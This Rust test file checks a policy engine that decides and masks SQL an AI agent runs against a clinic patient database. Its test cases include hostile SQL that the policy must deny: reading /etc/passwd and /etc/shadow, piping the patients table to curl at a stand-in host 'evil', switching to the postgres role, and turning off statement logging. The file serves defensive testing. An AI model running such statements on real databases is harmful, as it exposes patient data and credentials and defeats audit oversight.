//! Decisions for SQL text against the example policy, table-driven; and the loader's errors.

use std::{collections::BTreeSet, path::Path};

use super::{
    catalog::{Catalog, Relation, RelationKind},
    evaluate::{evaluate, Decision, HoldOver, StatementView, DEFAULT_DENY},
    identity::parse_identity_spec,
    load::{parse, PolicyError},
    mask::MaskMethod,
    provenance::Resolver,
    rules::Policy,
};
use crate::sql;

const EXAMPLE: &str = include_str!("../../../policies/examples/clinic-policy.toml");
const TARGET: &str = "clinic-db";

fn example() -> Policy {
    parse(Path::new("clinic-policy.toml"), EXAMPLE).unwrap()
}

/// A clinic database: patients (classified), visits (notes classified), a view over patients.
fn catalog() -> Catalog {
    let columns = |names: &[&str]| {
        names
            .iter()
            .enumerate()
            .map(|(i, n)| (i as i16 + 1, (*n).to_owned()))
            .collect()
    };
    Catalog::new([
        Relation::new(
            16001,
            "public".into(),
            "patients".into(),
            RelationKind::Table,
            columns(&[
                "id",
                "full_name",
                "ssn",
                "mrn",
                "birth_date",
                "street",
                "zip",
                "phone",
                "email",
                "age",
            ]),
            None,
        ),
        Relation::new(
            16002,
            "public".into(),
            "visits".into(),
            RelationKind::Table,
            columns(&["id", "patient_id", "visited_on", "notes"]),
            None,
        ),
        Relation::new(
            16003,
            "public".into(),
            "patient_directory".into(),
            RelationKind::View,
            columns(&["id", "display_name", "zip"]),
            Some(
                "SELECT p.id, upper(p.full_name) AS display_name, p.zip FROM public.patients p"
                    .into(),
            ),
        ),
        Relation::new(
            16004,
            "public".into(),
            "clinics".into(),
            RelationKind::Table,
            columns(&["id", "city"]),
            None,
        ),
        Relation::new(
            2619,
            "pg_catalog".into(),
            "pg_statistic".into(),
            RelationKind::Table,
            columns(&["starelid", "staattnum", "stavalues1"]),
            None,
        ),
        Relation::new(
            1249,
            "pg_catalog".into(),
            "pg_attribute".into(),
            RelationKind::Table,
            columns(&["attrelid", "attname", "attnum"]),
            None,
        ),
        Relation::new(
            12000,
            "pg_catalog".into(),
            "pg_stats".into(),
            RelationKind::View,
            columns(&["attname", "most_common_vals"]),
            Some("SELECT a.attname, s.stavalues1 AS most_common_vals FROM pg_catalog.pg_statistic s JOIN pg_catalog.pg_attribute a ON a.attnum = s.staattnum".into()),
        ),
    ])
}

const AGENT: &str = "cgroup=/ai-agents.slice/claude";
const ETL: &str = "uid=2001,exe=/usr/bin/python3.11";
const CARE: &str = "subject=bot-7,group=care-team";
const STRANGER: &str = "uid=1000,exe=/usr/bin/psql";

#[derive(Debug, PartialEq)]
enum Expect {
    Allow(&'static str),
    Deny(&'static str),
    Approval(&'static str),
    /// Allowed by the first rule unless the planner expects more rows than the second says.
    AllowUnlessOver(&'static str, &'static str),
}

fn decide(policy: &Policy, identity: &str, sql: &str) -> Vec<Decision> {
    let facts = parse_identity_spec(identity).unwrap();
    let identities = policy.identities_of(&facts);
    let catalog = catalog();
    let classes = policy.classification_for(TARGET);
    let resolver = Resolver {
        catalog: Some(&catalog),
        classes: &classes,
    };
    match sql::analyze(sql) {
        Ok(analysis) => analysis
            .statements
            .iter()
            .map(|statement| {
                let resolved = resolver.resolve(statement);
                evaluate(
                    policy,
                    TARGET,
                    &identities,
                    !classes.is_empty(),
                    StatementView::Parsed {
                        facts: statement,
                        resolved: &resolved,
                    },
                )
            })
            .collect(),
        Err(_) => vec![evaluate(
            policy,
            TARGET,
            &identities,
            true,
            StatementView::Unparsed,
        )],
    }
}

#[test]
fn example_policy_decides_each_statement_as_documented() {
    use Expect::*;
    let policy = example();
    let cases: &[(&str, &str, Expect)] = &[
        (
            AGENT,
            "SELECT id, zip FROM patients WHERE id = 1",
            Allow("agents-work"),
        ),
        (
            AGENT,
            "SELECT full_name FROM patients WHERE id = 1",
            AllowUnlessOver("agents-work", "approve-large-phi-reads"),
        ),
        (
            AGENT,
            "SELECT ssn FROM patients",
            Approval("approve-bulk-phi-reads"),
        ),
        (
            AGENT,
            "SELECT ssn FROM patients LIMIT 10",
            AllowUnlessOver("agents-work", "approve-large-phi-reads"),
        ),
        (
            AGENT,
            "SELECT * FROM patients",
            Approval("approve-bulk-phi-reads"),
        ),
        (
            AGENT,
            "SELECT display_name FROM patient_directory",
            Approval("approve-bulk-phi-reads"),
        ),
        (
            AGENT,
            "SELECT zip FROM patient_directory",
            Allow("agents-work"),
        ),
        (AGENT, "SELECT city FROM clinics", Allow("agents-work")),
        (AGENT, "DROP TABLE public.patients", Deny("deny-ddl-on-phi")),
        (AGENT, "TRUNCATE patients", Deny("deny-ddl-on-phi")),
        (
            AGENT,
            "ALTER TABLE patients ADD COLUMN x int",
            Deny("deny-ddl-on-phi"),
        ),
        (
            AGENT,
            "SELECT pg_read_file('/etc/passwd')",
            Deny("deny-server-files-and-links"),
        ),
        (
            AGENT,
            "SELECT * FROM pg_catalog.pg_ls_dir('.')",
            Deny("deny-server-files-and-links"),
        ),
        (
            AGENT,
            "SELECT lo_import('/etc/shadow')",
            Deny("deny-server-files-and-links"),
        ),
        (
            AGENT,
            "SELECT * FROM dblink('host=evil', 'select 1') AS t(x int)",
            Deny("deny-server-files-and-links"),
        ),
        (
            AGENT,
            "COPY patients TO PROGRAM 'curl -d @- evil'",
            Deny("deny-copy-on-server"),
        ),
        (
            AGENT,
            "COPY patients TO '/tmp/p.csv'",
            Deny("deny-copy-on-server"),
        ),
        (
            AGENT,
            "ALTER SYSTEM SET log_statement = 'none'",
            Deny("deny-alter-system"),
        ),
        (AGENT, "SET ROLE postgres", Deny("deny-role-switch")),
        (
            AGENT,
            "SET SESSION AUTHORIZATION postgres",
            Deny("deny-role-switch"),
        ),
        (
            AGENT,
            "SELECT set_config('role', 'postgres', false)",
            Deny("deny-role-switch"),
        ),
        (
            AGENT,
            "WITH gone AS (DELETE FROM patients RETURNING id) SELECT count(*) FROM gone",
            Deny("deny-hidden-writes"),
        ),
        (
            AGENT,
            "SELECT * INTO stolen FROM patients",
            Deny("deny-hidden-writes"),
        ),
        (
            AGENT,
            "DO $$ BEGIN PERFORM 1; END $$",
            Deny("deny-anonymous-code"),
        ),
        (
            AGENT,
            "UPDATE patients SET zip = '02139' WHERE id = 1",
            Approval("approve-agent-writes-to-phi"),
        ),
        (
            AGENT,
            "INSERT INTO clinics VALUES (1, 'Boston')",
            Allow("agents-work"),
        ),
        (
            AGENT,
            "CREATE TABLE ssn_copy AS SELECT ssn FROM patients WHERE id = 1",
            Approval("approve-phi-copies"),
        ),
        (
            AGENT,
            "INSERT INTO clinics (city) SELECT full_name FROM patients WHERE id = 1",
            Approval("approve-phi-copies"),
        ),
        (
            AGENT,
            "INSERT INTO clinics (city) SELECT city FROM clinics WHERE id = 1",
            Allow("agents-work"),
        ),
        (AGENT, "GRANT ALL ON patients TO PUBLIC", Deny(DEFAULT_DENY)),
        (AGENT, "SELEC broken", Deny(DEFAULT_DENY)),
        (ETL, "SELECT ssn FROM patients", Allow("etl-reads")),
        (ETL, "DELETE FROM clinics", Deny(DEFAULT_DENY)),
        (
            CARE,
            "SELECT full_name FROM patients WHERE id = 3",
            Allow("care-team-reads"),
        ),
        (STRANGER, "SELECT 1", Deny(DEFAULT_DENY)),
    ];
    for (identity, sql, expected) in cases {
        let decisions = decide(&policy, identity, sql);
        let got = decisions
            .iter()
            .find(|d| !matches!(d, Decision::Allow(_)))
            .or(decisions.first())
            .unwrap();
        let got = match got {
            Decision::Allow(plan) => Expect::Allow(leak(&plan.rule)),
            Decision::Deny(refusal) => Expect::Deny(leak(&refusal.rule)),
            Decision::RequireApproval(refusal, _) => Expect::Approval(leak(&refusal.rule)),
            Decision::AllowUnlessOver(plan, over) => {
                Expect::AllowUnlessOver(leak(&plan.rule), leak(&over.refusal.rule))
            }
        };
        assert_eq!(&got, expected, "{identity} running {sql:?}");
    }
}

#[test]
fn a_rows_over_rule_holds_what_the_planner_expects_to_be_large() {
    let policy = example();
    let decided = decide(
        &policy,
        AGENT,
        "SELECT full_name FROM patients WHERE zip = '02139'",
    );
    let [decision] = decided.as_slice() else {
        panic!("one statement: {decided:?}");
    };
    let Decision::AllowUnlessOver(plan, over) = decision else {
        panic!("waits on the estimate: {decision:?}");
    };
    assert_eq!(
        (&*plan.rule, over.rows, over.writes),
        ("agents-work", 1000, false)
    );
    // Within the limit, or not estimated, a read runs (capped by the session).
    for estimate in [Some(1000), None] {
        assert_eq!(
            decision.clone().settle(estimate),
            Decision::Allow(plan.clone())
        );
    }
    // Held by the rows_over rule, masked by the rule that allows it.
    let held = Decision::RequireApproval(over.refusal.clone(), plan.clone());
    assert_eq!(&*over.refusal.rule, "approve-large-phi-reads");
    assert_eq!(decision.clone().settle(Some(1001)), held);
    // A write cannot be capped on the way back: without an estimate it waits.
    let write = HoldOver {
        writes: true,
        ..over.clone()
    };
    let write = Decision::AllowUnlessOver(plan.clone(), write);
    assert_eq!(write.clone().settle(None), held);
    assert_eq!(
        write.settle(Some(0)),
        held,
        "a write waits whatever the estimate"
    );

    // A deny rule still denies, and without an allowing rule the default denies.
    let denied = decide(
        &policy,
        AGENT,
        "SELECT ssn FROM patients; DROP TABLE patients",
    );
    assert!(matches!(&denied[1], Decision::Deny(r) if &*r.rule == "deny-ddl-on-phi"));
    let rules = |extra: &str| {
        format!(
            "version = 1\n[[identities]]\nid = \"a\"\nuid = [1000]\n[[rules]]\nid = \"big\"\n\
             effect = \"require_approval\"\nkinds = [\"select\", \"update\"]\nrows_over = 10\n{extra}"
        )
    };
    let only_hold = parse(Path::new("p.toml"), &rules("")).unwrap();
    let me = "uid=1000,exe=/usr/bin/psql";
    let decided = decide(&only_hold, me, "SELECT 1");
    assert!(
        matches!(&decided[0], Decision::Deny(r) if &*r.rule == DEFAULT_DENY),
        "{decided:?}"
    );
    // The strictest of several rows_over rules counts, and a write is known as one.
    let stricter = "[[rules]]\nid = \"bigger\"\neffect = \"require_approval\"\nrows_over = 5\n\
                    [[rules]]\nid = \"ok\"\neffect = \"allow\"\nidentities = [\"a\"]\n";
    let policy = parse(Path::new("p.toml"), &rules(stricter)).unwrap();
    let writes = |sql: &str| match &decide(&policy, me, sql)[0] {
        Decision::AllowUnlessOver(_, over) => {
            assert_eq!((&*over.refusal.rule, over.rows), ("bigger", 5), "{sql}");
            over.writes
        }
        other => panic!("{sql}: {other:?}"),
    };
    assert!(writes("UPDATE t SET x = 1 WHERE id = 2"));
    assert!(
        writes("SELECT nextval('s') FROM t WHERE id = 2"),
        "a built-in that changes"
    );
    assert!(writes("SELECT lo_from_bytea(0, 'x') FROM t WHERE id = 2"));
    assert!(!writes("SELECT x FROM t WHERE id = 2"));
}

fn leak(text: &str) -> &'static str {
    Box::leak(text.to_owned().into_boxed_str())
}

/// The mask each output column of an allowed statement gets.
fn column_masks(identity: &str, sql: &str) -> Vec<Option<MaskMethod>> {
    let policy = example();
    let facts = parse_identity_spec(identity).unwrap();
    let identities = policy.identities_of(&facts);
    let catalog = catalog();
    let classes = policy.classification_for(TARGET);
    let resolver = Resolver {
        catalog: Some(&catalog),
        classes: &classes,
    };
    let analysis = sql::analyze(sql).unwrap();
    let statement = &analysis.statements[0];
    let resolved = resolver.resolve(statement);
    // A read the planner expects to be small (`rows_over`) is allowed.
    let decision = evaluate(
        &policy,
        TARGET,
        &identities,
        true,
        StatementView::Parsed {
            facts: statement,
            resolved: &resolved,
        },
    );
    let Decision::Allow(plan) = decision.settle(Some(1)) else {
        panic!("{sql:?} should be allowed for {identity}");
    };
    resolved
        .outputs
        .expect("aligned outputs")
        .iter()
        .map(|column| plan.method_for(column))
        .collect()
}

#[test]
fn masks_follow_provenance_not_column_names() {
    use MaskMethod::*;
    let cases: &[(&str, &str, &[Option<MaskMethod>])] = &[
        (
            AGENT,
            "SELECT id, ssn, zip FROM patients WHERE id = 1",
            &[None, Some(KeepLast(4)), Some(Zip3)],
        ),
        // An alias does not hide the source.
        (
            AGENT,
            "SELECT ssn AS harmless FROM patients WHERE id = 1",
            &[Some(KeepLast(4))],
        ),
        // Computed from PHI: a partial reveal would reveal another part, so redacted.
        (
            AGENT,
            "SELECT substr(ssn, 1, 3) || 'x' FROM patients WHERE id = 1",
            &[Some(Redact)],
        ),
        (
            AGENT,
            "SELECT upper(full_name) FROM patients WHERE id = 1",
            &[Some(Tokenize)],
        ),
        // Whole rows carry every column.
        (
            AGENT,
            "SELECT row_to_json(p) FROM patients p WHERE id = 1",
            &[Some(Redact)],
        ),
        // Through a view: the view's column comes from full_name.
        (
            AGENT,
            "SELECT id, display_name FROM patient_directory WHERE id = 1",
            &[None, Some(Tokenize)],
        ),
        // Through a derived table.
        (
            AGENT,
            "SELECT x.s FROM (SELECT ssn AS s FROM patients) x WHERE x.s IS NOT NULL LIMIT 1",
            &[Some(KeepLast(4))],
        ),
        // Counting carries no values.
        (AGENT, "SELECT count(ssn) FROM patients", &[None]),
        // Unclassified data passes.
        (AGENT, "SELECT id, city FROM clinics", &[None, None]),
        // Planner statistics hold sample values of every column: untraceable, so masked.
        (
            AGENT,
            "SELECT attname, most_common_vals FROM pg_stats WHERE attname = 'ssn'",
            &[None, Some(Redact)],
        ),
        // Per-identity overrides.
        (
            ETL,
            "SELECT zip, ssn FROM patients",
            &[Some(Redact), Some(KeepLast(4))],
        ),
        (
            CARE,
            "SELECT full_name, ssn FROM patients WHERE id = 1",
            &[None, Some(KeepLast(4))],
        ),
        // A function that might read anything: its value is unknown, so masked.
        (
            AGENT,
            "SELECT my_lookup(id), id FROM patients WHERE id = 1",
            &[Some(Redact), None],
        ),
        // A setting is not row data; the session masks it once any setting may hold some
        // (postgres/settings.rs).
        (
            AGENT,
            "SELECT current_setting('x'), id FROM patients WHERE id = 1",
            &[None, None],
        ),
    ];
    for (identity, sql, expected) in cases {
        assert_eq!(
            &column_masks(identity, sql),
            expected,
            "{identity} running {sql:?}"
        );
    }
}

#[test]
fn categories_read_are_reported_through_views() {
    let policy = example();
    let catalog = catalog();
    let classes = policy.classification_for(TARGET);
    let resolver = Resolver {
        catalog: Some(&catalog),
        classes: &classes,
    };
    let analysis = sql::analyze("SELECT * FROM patient_directory").unwrap();
    let resolved = resolver.resolve(&analysis.statements[0]);
    let categories: BTreeSet<&str> = resolved.categories.iter().map(|c| &**c).collect();
    assert_eq!(categories, BTreeSet::from(["name", "zip"]));
    assert!(resolved.classified);
    assert!(!resolved.unknown);
}

#[test]
fn without_a_catalog_unknown_relations_are_masked() {
    let policy = example();
    let classes = policy.classification_for(TARGET);
    let resolver = Resolver {
        catalog: None,
        classes: &classes,
    };
    let analysis = sql::analyze("SELECT name FROM somewhere").unwrap();
    let resolved = resolver.resolve(&analysis.statements[0]);
    assert!(resolved.unknown);
    assert!(resolved.outputs.unwrap()[0].unknown);
}

fn error_of(text: &str) -> String {
    match parse(Path::new("p.toml"), text) {
        Err(error @ PolicyError::Invalid { .. }) => error.to_string(),
        other => panic!("expected a validation error, got {other:?}"),
    }
}

#[test]
fn errors_name_file_line_and_rule() {
    let base = "version = 1\n[[identities]]\nid = \"a\"\nuid = [1]\n[[classify]]\ntable = \"public.t\"\ncolumns = { c = \"ssn\" }\n";
    let cases = [
        (format!("{base}[[rules]]\nid = \"r1\"\neffect = \"permit\"\n"), "p.toml:8: rule \"r1\": effect \"permit\""),
        (format!("{base}[[rules]]\nid = \"r1\"\neffect = \"allow\"\nidentities = [\"b\"]\n"), "rule \"r1\": identities: \"b\" is not a defined identity"),
        (format!("{base}[[rules]]\nid = \"r1\"\neffect = \"allow\"\n"), "rule \"r1\": an allow rule must name its identities"),
        (format!("{base}[[rules]]\nid = \"r1\"\neffect = \"deny\"\nkinds = [\"selec\"]\n"), "rule \"r1\": kinds: unknown statement kind \"selec\""),
        (format!("{base}[[rules]]\nid = \"r1\"\neffect = \"deny\"\n[[rules]]\nid = \"r1\"\neffect = \"deny\"\n"), "p.toml:11: rule \"r1\": rule id used twice"),
        (format!("{base}[masking]\nssn = \"scramble\"\n"), "p.toml:9: masking.ssn: "),
        (format!("{base}[masking]\nphone = \"redact\"\n"), "masking.phone: category \"phone\" is not used"),
        (format!("{base}[[rules]]\nid = \"r1\"\neffect = \"deny\"\nmax_rows = 5\n"), "rule \"r1\": masking, max_rows and max_bytes belong on allow and require_approval rules"),
        (format!("{base}[[rules]]\nid = \"r1\"\neffect = \"allow\"\nidentities = [\"a\"]\nunparsed = true\nkinds = [\"select\"]\n"), "rule \"r1\": unparsed = true cannot be combined"),
        (format!("{base}[[rules]]\nid = \"r1\"\neffect = \"deny\"\ntimeout_s = 60\n"), "rule \"r1\": timeout_s belongs on require_approval rules"),
        (format!("{base}[[rules]]\nid = \"r1\"\neffect = \"require_approval\"\ntimeout_s = 0\n"), "rule \"r1\": timeout_s: must be 1 to 604800 seconds"),
        (format!("{base}[[rules]]\nid = \"r1\"\neffect = \"allow\"\nidentities = [\"a\"]\nrows_over = 10\n"), "rule \"r1\": rows_over belongs on require_approval rules"),
        (format!("{base}[[rules]]\nid = \"r1\"\neffect = \"require_approval\"\nrows_over = 10\nmax_rows = 5\n"), "rule \"r1\": a rows_over rule holds statements the rules after it allow"),
        (format!("{base}[[rules]]\nid = \"r1\"\neffect = \"allow\"\nidentities = [\"a\"]\ncolour = 1\n"), "p.toml:12: rules[0].colour: unknown field"),
        ("version = 2\n".to_owned(), "p.toml:1: version: only version 1"),
        ("version = 1\n[[classify]]\ntable = \"patients\"\ncolumns = { c = \"ssn\" }\n".to_owned(), "p.toml:3: classify.table: write it as schema.table"),
        ("version = 1\n[[identities]]\nid = \"x\"\n".to_owned(), "p.toml:2: identity \"x\": an identity needs at least one"),
    ];
    for (text, expected) in cases {
        let error = error_of(&text);
        assert!(
            error.contains(expected),
            "expected {expected:?} in {error:?}\n{text}"
        );
    }
}

#[test]
fn check_config_warns_when_opaque_code_may_copy_phi() {
    assert!(
        super::describe::opaque_code_warnings(&example()).is_empty(),
        "the example denies DO and allows no CALL or unparsed statement"
    );
    let permissive = EXAMPLE.split("[[rules]]").next().unwrap().to_owned()
        + "[[rules]]\nid = \"admins\"\neffect = \"allow\"\nidentities = [\"coding-agents\"]\nkinds = [\"select\", \"do\"]\n\n\
           [[rules]]\nid = \"admins-unparsed\"\neffect = \"allow\"\nidentities = [\"coding-agents\"]\nunparsed = true\n";
    let policy = parse(Path::new("permissive.toml"), &permissive).unwrap();
    let warnings = super::describe::opaque_code_warnings(&policy);
    assert_eq!(warnings.len(), 2, "{warnings:?}");
    assert!(
        warnings[0].contains("rule admins lets coding-agents run do"),
        "{warnings:?}"
    );
    assert!(warnings[1].contains("unparsed statements"), "{warnings:?}");
}
